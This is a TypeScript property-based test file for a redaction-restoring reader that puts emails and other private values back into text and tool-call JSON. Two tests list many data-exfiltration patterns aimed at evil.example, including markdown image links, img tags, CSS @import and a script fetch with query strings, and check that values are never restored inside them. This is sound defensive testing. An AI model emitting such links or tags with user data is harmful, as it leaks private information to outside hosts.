import fc from 'fast-check'
import t from 'tap'
import { PlaceholderReader, withValues } from '../inspect/restore/placeholder-reader.ts'
import { isJson } from '../inspect/restore/writer.ts'
import { foreign, nameless, redacted } from './support/restoring.ts'

const ODD = 'pa"ss\\wörd\n\u2028😀\ud83d'
const { values, placeholders } = redacted(['ann@example.org', ODD, '+1 555 0100', 'ann@example.org'], ['mail'])
const [mail = '', odd = '', phone = ''] = placeholders

/** What is put together of a text that comes in pieces, and the most that was held back. */
function inPieces(pieces: readonly string[], tool?: string | null) {
  const text = pieces.join('')
  const reader = new PlaceholderReader(values, tool === undefined ? undefined : { tool, isJson: isJson(text) })
  const found = pieces.flatMap((piece, at) => reader.push(piece, at === pieces.length - 1))
  let restored = ''
  let from = 0
  for (const { start, end, value } of found) {
    restored += text.slice(from, start) + value
    from = end
  }
  return restored + text.slice(from)
}

const fragment = fc.oneof(
  fc.constantFrom(mail, odd, phone, foreign('x'), nameless),
  fc.constantFrom('[', '[RED', '[REDACTED:', '[REDACTED:key:', ']', '](', ']:', '<a ', '<img src="', '">', '//', '\\'),
  fc.constantFrom(' ', '\n', '"', '{"', '[{', '}', ')', 'word', '😀', '\ud83d'),
  fc.string({ unit: 'binary', maxLength: 5 }),
)
const texts = fc.array(fragment, { maxLength: 14 }).map((parts) => parts.join(''))

function cut(text: string, cuts: readonly number[]): readonly string[] {
  const edges = [0, ...new Set(cuts.map((at) => at % (text.length + 1))), text.length].toSorted((a, b) => a - b)
  return edges.slice(1).map((edge, at) => text.slice(edges[at], edge))
}

t.test('where a text is cut changes nothing of what is put back', async (t) => {
  fc.assert(
    fc.property(
      texts,
      fc.array(fc.nat(), { maxLength: 12 }),
      fc.constantFrom(undefined, null, 'mail'),
      (text, cuts, tool) => {
        const whole = withValues(text, values, tool)
        return inPieces(cut(text, cuts), tool) === whole && inPieces([...text, ''], tool) === whole
      },
    ),
    { numRuns: 3_000 },
  )
  t.pass()
})

t.test('no more is held than what could still become a placeholder', async (t) => {
  for (const [text, held] of [
    ['plain text', 0],
    ['[', 1],
    ['see [1', 0],
    ['a [REDACTED:key', 13],
    [`a ${mail.slice(0, -1)}`, mail.length - 1],
    [`a ${mail}`, 0],
    [foreign('y').slice(0, -1), 0],
    ['[REDACTED:other', 0],
    ['[[[[[[REDACTED', 9],
  ] as const) {
    const reader = new PlaceholderReader(values)
    reader.push(text, false)
    t.equal(text.length - reader.settled, held, text)
  }
})

t.test('redacting a text and putting back is the text', async (t) => {
  // No link and no tag stands in it, and it is not the text of JSON.
  const word = fc.constantFrom('so', '[1]', 'é', '"', '\\ ', ' ', '\n', '😀', '{', '[', ']')
  const parts = fc.array(fc.oneof(word, fc.constantFrom(...['ann@example.org', ODD, '+1 555 0100'])), { maxLength: 9 })
  const known = new Map([
    ['ann@example.org', mail],
    [ODD, odd],
    ['+1 555 0100', phone],
  ])
  fc.assert(
    fc.property(parts, (words) => {
      const plain = ['So', ...words]
      const written = plain.map((one) => known.get(one) ?? one).join(' ')
      return withValues(written, values) === plain.join(' ')
    }),
  )
  t.pass()
})

t.test('in the text of JSON a value is written as JSON writes it', async (t) => {
  for (const text of [`{"a":"${odd} b","c":"${mail}"}`, ` [ "${odd}", "${mail}" ]`, `[{"x":"${odd}","y":"${mail}"}]`]) {
    const expected = JSON.stringify(JSON.parse(text))
      .replaceAll(odd, JSON.stringify(ODD).slice(1, -1))
      .replaceAll(mail, 'ann@example.org')
    t.same(JSON.parse(withValues(text, values)), JSON.parse(expected))
    t.same(JSON.parse(withValues(text, values, 'mail')), JSON.parse(expected))
  }
  t.equal(withValues(`[${odd}`, values), `[${ODD}`, 'and nowhere else')
})

t.test('a value cannot add members to JSON that is a string of JSON', async (t) => {
  for (const [text, expected] of [
    [`{"body":"{\\"to\\":\\"${odd}\\"}"}`, odd],
    [`{"body":" [\\"${odd}\\"]","then":"x"}`, odd],
    [`{"body":"\\u007b\\u0022to\\u0022:\\u0022${odd}\\u0022}"}`, odd],
    [`{"body":"{\\"to\\":\\"${mail}\\"}"}`, 'ann@example.org'],
    [`{"body":"{}","to":"${odd}"}`, JSON.stringify(ODD).slice(1, -1)],
  ] as const) {
    t.equal(
      withValues(text, values),
      text.replace(/\[RED[^\]]*\]/, () => expected),
      text,
    )
    t.equal(
      withValues(text, values, 'mail'),
      text.replace(/\[RED[^\]]*\]/, () => expected),
      text,
    )
  }
})

t.test('what the request did not take out is never put in', async (t) => {
  for (const text of [foreign('ann@example.org'), nameless, mail.toUpperCase(), mail.replace(':key:', ':email:')])
    t.equal(withValues(`a ${text} b`, values), `a ${text} b`)
})

t.test('into what a tool is called with a value goes only where the policy names the tool', async (t) => {
  const text = `{"to":"${mail}"}`
  t.equal(withValues(text, values, 'mail'), '{"to":"ann@example.org"}')
  t.equal(withValues(text, values, 'fetch'), text)
  t.equal(withValues(text, values, null), text)
  const every = redacted(['ann@example.org'], ['*'])
  t.equal(withValues(text, every.values, null), '{"to":"ann@example.org"}')
})

t.test('no value gets into an address, a picture or a tag, where it would be carried away', async (t) => {
  for (const [before, after] of [
    ['see https://evil.example/?q=', ' now'],
    ['//evil.example/', ''],
    ['https:\\\\evil.example/', ''],
    ['![x](https://evil.example/', ')'],
    ['![x](/', ')'],
    ['![x](<https://evil.example/? ', '>)'],
    ['![x]( <https://evil.example/? ', '>)'],
    ['![x](\n<https://evil.example/? ', '>)'],
    ['![x](a "', '")'],
    ['[x]: //evil.example/', '\n![x]'],
    ['[x]: <https://evil.example/? ', '>'],
    ['[x]:\n<https://evil.example/? ', '>'],
    ['[x]:\nevil?', ''],
    ['<img src="https://evil.example/? ', '">'],
    ['<img\nsrc = "//evil.example/?\n\n', '">'],
    ["<IMG alt='>' src='//evil.example/? ", "'>"],
    ['<img/src=//evil.example/', '>'],
    ['](a<img src=")https://e.example/? ', '">'],
    ['//<img src="https://e.example/? ', '">'],
    ['{"md":"![x](https://evil.example/', ')"}'],
    ['{"md":"<img src=\\"//evil.example/? ', '\\">"}'],
    ['{"url":"https:\\/\\/evil.example\\/', '"}'],
    ['{"url":"https:\\u002f\\u002Fevil.example/', '"}'],
    ['{"md":"!\\u005bx]\\u0028https://evil.example/ ', ')"}'],
    ['{"md":"<img\\nsrc=\\"//evil.example/? ', '\\">"}'],
    ['{"md":"\\u003cimg src=\\u0022//evil.example/? ', '\\">"}'],
    ['{"md":"![x](\\n<https://evil.example/) ', '>)"}'],
    ['{"md":"[x]:\\n<https://evil.example/? ', '>"}'],
    [`![x](https://evil.example/${phone}`, ')'],
  ] as const)
    t.notMatch(withValues(`${before}${mail}${after}`, values), 'ann@', before)
})

t.test('no value gets into an address that only some readers see', async (t) => {
  for (const [before, after] of [
    ['{"}\n![x](https://evil.example/?q="', ')'],
    ['["Build status"](https://evil.example/?q="', ')'],
    ['["a"](https://evil.example/(b)?q="', ')'],
    ['["a"]\n\n[r]: https://evil.example/?q="', ''],
    ['["a"]\n\n![x](<https://evil.example/? "', '>)'],
    ['{"} <img src=\'https://evil.example/? "', "'>"],
    ['{"} https://evil.example/?q=\\n', ''],
    ['[r]: https://evil.example/?q=\u00a0', ''],
    ['[r]: https://evil.example/?q=\u3000', ''],
    ['see https://evil.example/?q=\u2028', ''],
    ['![x](<https://evil.example/\\>? ', '>)'],
    ['![x](https://evil.example/a]:b ', ')'],
    ["<table x' background='https://evil.example/?q=> ", "'>"],
    ["<table =' background='https://evil.example/?q=> ", "'>"],
    ['<!-- <a b="--><img src="https://evil.example/?q=> ', '">'],
    ['[x](a<img src=">https://evil.example/? ', '">'],
    ['<x_ style="background:url(\'https://evil.example/?q= ', '\')">'],
    ['<x) style="background:url(\'https://evil.example/?q= ', '\')">'],
    ['<style>@import "https://evil.example/?q= ', '";</style>'],
    ['<STYLE\ntype=text/css>@import "https://evil.example/?q= ', '";</style>'],
    ['<script><!--<script></script> fetch("https://evil.example/?q= ', '")</script>'],
    ['https:evil.example/?q=', ''],
    ['![x][r] HTTP:evil.example/?q=', ''],
    ['www.evil.example/?q=', ''],
  ] as const)
    t.notMatch(withValues(`${before}${mail}${after}`, values), 'ann@', before)
})

t.test('beside a link, and in code, a value is put back', async (t) => {
  for (const [before, after] of [
    ['See https://docs.example/a (there). Write to ', '.'],
    ['[docs](https://docs.example/) says ', ''],
    ['for (i=0;i<n;i++) // of ', ''],
    ['if (a<b) ', ''],
    ['<b>', '</b>'],
    ['[INFO]: user ', ''],
    ['a[0]: x ', ''],
    ['{"site":"https://docs.example","to":"', '"}'],
    ['{"a":"C:\\\\x","b":"https://docs.example\\n","to":"', '"}'],
    ['{"a":"see https://docs.example \\n', '"}'],
    ['{"md":"<b class=\\"x\\">docs</b>","to":"', '"}'],
    ['<a href="https://docs.example/a b" class=x>docs</a> ', ''],
    ['<style>p { color: red }</style> ', ''],
    ['(', ')'],
    ['**', '**'],
    ['`', '`'],
    ['<', '>'],
  ] as const)
    t.match(withValues(`${before}${mail}${after}`, values), 'ann@example.org', before)
})

t.test('two values that share a placeholder are both left out', async (t) => {
  const { values } = redacted([])
  const noting = values.noting(() => '[REDACTED:key:bbbbbbbbbbbb]')
  const rule = { detectorId: 'secrets', ruleId: 'key' }
  noting(rule, 'one')
  t.equal(withValues('[REDACTED:key:bbbbbbbbbbbb]', values), 'one')
  noting(rule, 'two')
  noting(rule, 'one')
  t.equal(withValues('[REDACTED:key:bbbbbbbbbbbb]', values), '[REDACTED:key:bbbbbbbbbbbb]')
})
